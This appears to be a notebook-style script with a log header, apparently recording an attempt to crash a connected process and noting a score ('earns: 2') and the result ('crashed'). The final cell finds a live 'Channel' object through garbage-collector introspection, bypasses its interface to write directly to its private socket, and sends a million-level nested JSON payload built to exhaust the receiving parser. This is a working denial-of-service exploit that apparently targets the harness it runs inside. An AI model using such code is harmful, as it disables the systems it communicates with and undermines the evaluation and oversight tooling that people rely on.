# tries: send JSON that is nested a million deep
# earns: 2
# ends: crashed
# reached: cannot be read
# %% q3_2
pooled_shape = (3, 3)
# %% q2_3
import gc, struct
channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")
text = b'{"a":' + b"[" * 10**6
channel._sock.sendall(struct.pack("!II", len(text), 0) + text)
